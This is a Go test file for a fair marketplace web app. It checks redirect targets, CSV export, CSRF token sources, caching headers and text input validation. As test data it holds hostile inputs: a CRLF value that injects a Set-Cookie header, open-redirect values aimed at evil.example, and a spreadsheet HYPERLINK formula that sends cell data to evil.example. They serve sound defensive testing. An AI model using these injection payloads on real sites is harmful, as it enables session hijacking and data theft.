package app

import (
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"miaohui/app/account"
	"miaohui/catalog"
)

// Input at the edge: redirect targets, text fields, the CSRF token's
// sources, and caching of personal answers.

// formHeader marks a body as a posted HTML form.
var formHeader = map[string]string{"Content-Type": "application/x-www-form-urlencoded", "Accept": "text/html"}

// wantNoPlantedCookie fails if the answer sets the session cookie to X.
func wantNoPlantedCookie(t testing.TB, res response) {
	t.Helper()
	for _, c := range res.Cookies() {
		if c.Name == account.SessionCookie && c.Value == "X" {
			t.Fatalf("the answer plants %s=X: %v", account.SessionCookie, res.Header.Values("Set-Cookie"))
		}
	}
	if loc := res.Header.Get("Location"); strings.ContainsAny(loc, "\r\n") {
		t.Fatalf("Location %q carries a line break", loc)
	}
}

// wantLocation checks a redirect's target.
func wantLocation(t testing.TB, res response, want string) {
	t.Helper()
	wantStatus(t, res, http.StatusSeeOther)
	if got := res.Header.Get("Location"); got != want {
		t.Fatalf("Location %q, want %q", got, want)
	}
}

func TestRedirectTargetsStayLocal(t *testing.T) {
	t.Run("lang next with a line break plants no cookie", func(t *testing.T) {
		e := newTestEnv(t)
		res := e.do(req{Method: "GET", Path: "/lang/en?next=/%0d%0aSet-Cookie:%20fair_session=X;%20Path=/"})
		wantNoPlantedCookie(t, res)
		if res.StatusCode == http.StatusSeeOther {
			wantLocation(t, res, "/")
		} else {
			wantStatus(t, res, http.StatusUnprocessableEntity)
		}
	})
	t.Run("lang next with a tab stays on the site", func(t *testing.T) {
		e := newTestEnv(t)
		res := e.do(req{Method: "GET", Path: "/lang/en?next=/%09/evil.example/x"})
		if res.StatusCode == http.StatusSeeOther {
			wantLocation(t, res, "/")
		} else {
			wantStatus(t, res, http.StatusUnprocessableEntity)
		}
	})
	t.Run("lang next local is kept", func(t *testing.T) {
		e := newTestEnv(t)
		wantLocation(t, e.do(req{Method: "GET", Path: "/lang/en?next=/fairs%3Fkind%3Dtemple"}), "/fairs?kind=temple")
	})
	login := func(e *testEnv, email, next string) response {
		body := url.Values{"email": {email}, "password": {testPassword}, "next": {next}}.Encode()
		return e.do(req{Method: "POST", Path: "/login", Body: body, Header: formHeader})
	}
	t.Run("login next with a line break plants no cookie", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("crlf-next@example.com", catalog.RoleShopper)
		res := login(e, u.Email, "/\r\nSet-Cookie: fair_session=X; Path=/")
		wantNoPlantedCookie(t, res)
		wantLocation(t, res, "/account")
	})
	t.Run("login next with a tab stays on the site", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("tab-next@example.com", catalog.RoleShopper)
		wantLocation(t, login(e, u.Email, "/\t/evil.example/x"), "/account")
	})
	t.Run("login next local is kept", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("local-next@example.com", catalog.RoleShopper)
		wantLocation(t, login(e, u.Email, "/orders"), "/orders")
	})
	t.Run("back with a tab leads to sign in and home", func(t *testing.T) {
		e := newTestEnv(t)
		body := url.Values{"back": {"/\t/evil.example/x"}}.Encode()
		res := e.do(req{Method: "POST", Path: "/slots/any/book", Body: body, Header: formHeader})
		wantLocation(t, res, "/login?next=%2F")
	})
}

func TestTotalsCSVNeutralisesFormulas(t *testing.T) {
	e := newTestEnv(t)
	w := newWorld(t, e, "csv-formula")
	merchant := e.register("formula-csv-formula@example.com", catalog.RoleMerchant)
	name := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	stall := e.openStall(t, w.org, merchant.Token, w.slug, name)["id"].(string)

	res := e.do(req{Method: "GET", Path: "/api/v1/fairs/" + w.slug + "/totals.csv", Token: w.org})
	wantStatus(t, res, http.StatusOK)
	rows, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
	if err != nil {
		t.Fatalf("totals.csv: %v\n%s", err, res.Body)
	}
	found := false
	for _, r := range rows[1:] {
		if r[0] == stall {
			found = true
			if r[1] != "'"+name {
				t.Errorf("stall name cell %q, want %q", r[1], "'"+name)
			}
			if r[2] != "0" || r[3] != "0" {
				t.Errorf("stall numbers %q, %q: want 0 and 0 as plain numbers", r[2], r[3])
			}
		}
	}
	if !found {
		t.Fatalf("no row for stall %s:\n%s", stall, res.Body)
	}
}

func TestCSRFTokenNotReadFromTheURL(t *testing.T) {
	t.Run("API logout with the token in the query is refused", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-query@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/api/v1/auth/logout?_csrf=" + url.QueryEscape(u.CSRF), Cookies: []*http.Cookie{u.Cookie}})
		wantProblem(t, res, http.StatusForbidden, "forbidden")
		// The session still works.
		wantStatus(t, e.do(req{Method: "GET", Path: "/api/v1/me", Cookies: []*http.Cookie{u.Cookie}}), http.StatusOK)
	})
	t.Run("a page form with the token in the query is refused", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-form-query@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/logout?_csrf=" + url.QueryEscape(u.CSRF), Body: "", Header: formHeader, Cookies: []*http.Cookie{u.Cookie}})
		wantStatus(t, res, http.StatusForbidden)
		wantStatus(t, e.do(req{Method: "GET", Path: "/api/v1/me", Cookies: []*http.Cookie{u.Cookie}}), http.StatusOK)
	})
	t.Run("flash purchase with the token in the query is refused", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-flash-query@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/api/v1/flash-sales/none/purchase?_csrf=" + url.QueryEscape(u.CSRF), Body: map[string]any{"quantity": 1}, Cookies: []*http.Cookie{u.Cookie}})
		wantProblem(t, res, http.StatusForbidden, "forbidden")
	})
	t.Run("the header is accepted", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-header@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/api/v1/auth/logout", Header: map[string]string{"X-CSRF-Token": u.CSRF}, Cookies: []*http.Cookie{u.Cookie}})
		wantStatus(t, res, http.StatusNoContent)
	})
	t.Run("a form body field is accepted", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-body@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/logout", Body: "_csrf=" + url.QueryEscape(u.CSRF), Header: formHeader, Cookies: []*http.Cookie{u.Cookie}})
		wantLocation(t, res, "/")
		wantStatus(t, e.do(req{Method: "GET", Path: "/api/v1/me", Cookies: []*http.Cookie{u.Cookie}}), http.StatusUnauthorized)
	})
	t.Run("a multipart body field is accepted", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("csrf-multipart@example.com", catalog.RoleShopper)
		body := "--b\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n" + u.CSRF + "\r\n--b--\r\n"
		res := e.do(req{Method: "POST", Path: "/logout", Body: body, Header: map[string]string{"Content-Type": "multipart/form-data; boundary=b", "Accept": "text/html"}, Cookies: []*http.Cookie{u.Cookie}})
		wantLocation(t, res, "/")
	})
}

func TestPersonalAnswersAreNotStored(t *testing.T) {
	wantNoStore := func(t *testing.T, res response) {
		t.Helper()
		if got := res.Header.Get("Cache-Control"); got != "no-store" {
			t.Fatalf("%s %s: Cache-Control %q, want no-store", res.Request.Method, res.Request.URL, got)
		}
	}
	for _, path := range []string{"/api/v1/me", "/api/v1/me/orders", "/api/v1/me/notifications", "/api/v1/cart", "/api/v1/orders/none"} {
		t.Run("bearer "+path, func(t *testing.T) {
			e := newTestEnv(t)
			u := e.register("nostore@example.com", catalog.RoleShopper)
			wantNoStore(t, e.do(req{Method: "GET", Path: path, Token: u.Token}))
		})
	}
	t.Run("cookie /api/v1/me", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("nostore-cookie@example.com", catalog.RoleShopper)
		wantNoStore(t, e.do(req{Method: "GET", Path: "/api/v1/me", Cookies: []*http.Cookie{u.Cookie}}))
	})
	t.Run("signed-in public list", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("nostore-list@example.com", catalog.RoleShopper)
		wantNoStore(t, e.do(req{Method: "GET", Path: "/api/v1/fairs", Token: u.Token}))
	})
	t.Run("anonymous checkout", func(t *testing.T) {
		e := newTestEnv(t)
		wantNoStore(t, e.do(req{Method: "POST", Path: "/api/v1/checkout", Body: map[string]any{}}))
	})
	t.Run("sign-in answer with its token", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("nostore-login@example.com", catalog.RoleShopper)
		res := e.do(req{Method: "POST", Path: "/api/v1/auth/login", Body: map[string]any{"email": u.Email, "password": testPassword}})
		wantStatus(t, res, http.StatusOK)
		wantNoStore(t, res)
	})
	t.Run("anonymous public list stays cacheable", func(t *testing.T) {
		e := newTestEnv(t)
		res := e.do(req{Method: "GET", Path: "/api/v1/fairs"})
		wantStatus(t, res, http.StatusOK)
		if got := res.Header.Get("Cache-Control"); got == "no-store" {
			t.Fatalf("Cache-Control %q on an anonymous public list", got)
		}
	})
}

func TestTextInputIsCheckedAtTheEdge(t *testing.T) {
	raw := func(e *testEnv, method, path, token, body string) response {
		return e.do(req{Method: method, Path: path, Token: token, Body: body})
	}
	t.Run("register with a NUL in the name", func(t *testing.T) {
		e := newTestEnv(t)
		res := raw(e, "POST", "/api/v1/auth/register", "", `{"email":"nul-name@example.com","password":"`+testPassword+`","name":"a\u0000b","role":"shopper"}`)
		wantField(t, res, "name")
		if n := countRows(t, e, "users", "email = ?", "nul-name@example.com"); n != 0 {
			t.Fatalf("%d users stored", n)
		}
	})
	t.Run("register with invalid UTF-8 in the name", func(t *testing.T) {
		e := newTestEnv(t)
		res := raw(e, "POST", "/api/v1/auth/register", "", "{\"email\":\"bad-utf8@example.com\",\"password\":\""+testPassword+"\",\"name\":\"\xff\xfe\",\"role\":\"shopper\"}")
		wantField(t, res, "name")
		if n := countRows(t, e, "users", "email = ?", "bad-utf8@example.com"); n != 0 {
			t.Fatalf("%d users stored", n)
		}
	})
	t.Run("login with a NUL in the email", func(t *testing.T) {
		e := newTestEnv(t)
		wantField(t, raw(e, "POST", "/api/v1/auth/login", "", `{"email":"a\u0000@example.com","password":"x"}`), "email")
	})
	t.Run("fair with a NUL in the name", func(t *testing.T) {
		e := newTestEnv(t)
		_, org := e.organizer(t, "nul-fair@example.com")
		body := e.fairBody("nul-fair", "temple_fair")
		body["name"] = "庙会\x00"
		wantField(t, e.do(req{Method: "POST", Path: "/api/v1/fairs", Token: org, Body: body}), "name")
		if n := countRows(t, e, "fairs", "slug = ?", "nul-fair"); n != 0 {
			t.Fatalf("%d fairs stored", n)
		}
	})
	t.Run("application with a lone surrogate in the stall name", func(t *testing.T) {
		e := newTestEnv(t)
		_, org := e.organizer(t, "surrogate-org@example.com")
		e.createFair(t, org, e.fairBody("surrogate", "temple_fair"))
		m := e.register("surrogate-merchant@example.com", catalog.RoleMerchant)
		res := raw(e, "POST", "/api/v1/fairs/surrogate/applications", m.Token, `{"stall_name":"\ud800灯笼"}`)
		wantField(t, res, "stall_name")
		if n := countRows(t, e, "applications", "merchant_id = ?", m.ID); n != 0 {
			t.Fatalf("%d applications stored", n)
		}
	})
	t.Run("product with a NUL in the title", func(t *testing.T) {
		e := newTestEnv(t)
		w := newWorld(t, e, "nul-product")
		body := goods("兔子灯\x00", 1250, 5)
		wantField(t, e.do(req{Method: "POST", Path: "/api/v1/stalls/" + w.stallA + "/products", Token: w.merchA.Token, Body: body}), "title")
		if n := countRows(t, e, "products", "stall_id = ?", w.stallA); n != 0 {
			t.Fatalf("%d products stored", n)
		}
	})
	t.Run("a nested string is named by its path", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("nested@example.com", catalog.RoleShopper)
		wantField(t, raw(e, "POST", "/api/v1/checkout", u.Token, `{"coupons":["ok","\u0000"]}`), "coupons[1]")
	})
	t.Run("line breaks in a description are text", func(t *testing.T) {
		e := newTestEnv(t)
		w := newWorld(t, e, "multiline")
		body := goods("兔子灯", 1250, 5)
		body["description"] = "手工制作\r\n\t竹骨纸面"
		e.createProduct(t, w.merchA.Token, w.stallA, body)
	})
	t.Run("search q with a NUL", func(t *testing.T) {
		e := newTestEnv(t)
		newWorld(t, e, "nul-search")
		wantField(t, e.do(req{Method: "GET", Path: "/api/v1/fairs/nul-search/products?q=%00"}), "q")
	})
	t.Run("search q with invalid UTF-8", func(t *testing.T) {
		e := newTestEnv(t)
		newWorld(t, e, "utf8-search")
		wantField(t, e.do(req{Method: "GET", Path: "/api/v1/fairs/utf8-search/products?q=%E7%81"}), "q")
	})
	t.Run("a query parameter may not hold a newline", func(t *testing.T) {
		e := newTestEnv(t)
		wantField(t, e.do(req{Method: "GET", Path: "/api/v1/fairs?cursor=a%0Ab"}), "cursor")
	})
	t.Run("a path parameter with a NUL", func(t *testing.T) {
		e := newTestEnv(t)
		wantField(t, e.do(req{Method: "GET", Path: "/api/v1/fairs/a%00b"}), "slug")
	})
	t.Run("a path parameter with invalid UTF-8", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("path-utf8@example.com", catalog.RoleShopper)
		wantField(t, e.do(req{Method: "GET", Path: "/api/v1/orders/%ff", Token: u.Token}), "id")
	})
	t.Run("the search page with a NUL answers its error page", func(t *testing.T) {
		e := newTestEnv(t)
		newWorld(t, e, "nul-page")
		res := e.do(req{Method: "GET", Path: "/fairs/nul-page/search?q=%00", Header: map[string]string{"Accept": "text/html"}})
		wantStatus(t, res, http.StatusUnprocessableEntity)
		if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/html") {
			t.Fatalf("content type %q, want the HTML error page", ct)
		}
	})
	t.Run("the sign-in form with a NUL in the email", func(t *testing.T) {
		e := newTestEnv(t)
		body := url.Values{"email": {"a\x00@example.com"}, "password": {"x"}}.Encode()
		res := e.do(req{Method: "POST", Path: "/login", Body: body, Header: formHeader})
		wantStatus(t, res, http.StatusUnprocessableEntity)
		if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/html") {
			t.Fatalf("content type %q, want the HTML error page", ct)
		}
	})
	t.Run("the register form with invalid UTF-8 in the name", func(t *testing.T) {
		e := newTestEnv(t)
		body := url.Values{"email": {"form-utf8@example.com"}, "password": {testPassword}, "name": {"\xff"}, "role": {"shopper"}}.Encode()
		res := e.do(req{Method: "POST", Path: "/register", Body: body, Header: formHeader})
		wantStatus(t, res, http.StatusUnprocessableEntity)
		if n := countRows(t, e, "users", "email = ?", "form-utf8@example.com"); n != 0 {
			t.Fatalf("%d users stored", n)
		}
	})
	t.Run("a form value may hold line breaks", func(t *testing.T) {
		e := newTestEnv(t)
		body := url.Values{"email": {"form-lines@example.com"}, "password": {testPassword}, "name": {"张三\r\n李四"}, "role": {"shopper"}}.Encode()
		wantLocation(t, e.do(req{Method: "POST", Path: "/register", Body: body, Header: formHeader}), "/account")
	})
	t.Run("an upload's file part is binary, its text parts are checked", func(t *testing.T) {
		e := newTestEnv(t)
		w := newWorld(t, e, "upload-text")
		product := e.createProduct(t, w.merchA.Token, w.stallA, goods("兔子灯", 1250, 5))["id"].(string)
		png := catPNG(t, 8, 6, false)
		wantStatus(t, e.catUpload(t, w.merchA.Token, product, "lantern.png", png), http.StatusCreated)

		hr := catUploadRequest(t, w.merchA.Token, product, "lantern.png", png)
		ct := hr.Header.Get("Content-Type")
		boundary := ct[strings.Index(ct, "boundary=")+len("boundary="):]
		body, _ := io.ReadAll(hr.Body)
		text := "--" + boundary + "\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nlantern\x00\r\n"
		hr = httptest.NewRequest("POST", hr.URL.Path, bytes.NewReader(append([]byte(text), body...)))
		hr.Header.Set("Content-Type", ct)
		hr.Header.Set("Authorization", "Bearer "+w.merchA.Token)
		wantField(t, e.send(hr), "alt")
	})
	t.Run("the flash purchase refuses a NUL with a 4xx", func(t *testing.T) {
		e := newTestEnv(t)
		u := e.register("flash-nul@example.com", catalog.RoleShopper)
		wantField(t, raw(e, "POST", "/api/v1/flash-sales/none/purchase", u.Token, `{"quantity":1,"note":"\u0000"}`), "note")
		wantProblem(t, raw(e, "POST", "/api/v1/flash-sales/none/purchase", u.Token, "{\"quantity\":1,\"note\":\"\x00\"}"), http.StatusBadRequest, "malformed_json")
		wantField(t, raw(e, "POST", "/api/v1/flash-sales/%ff/purchase", u.Token, `{"quantity":1}`), "id")
		wantField(t, raw(e, "POST", "/api/v1/flash-sales/none/purchase?x=%00", u.Token, `{"quantity":1}`), "x")
	})
}
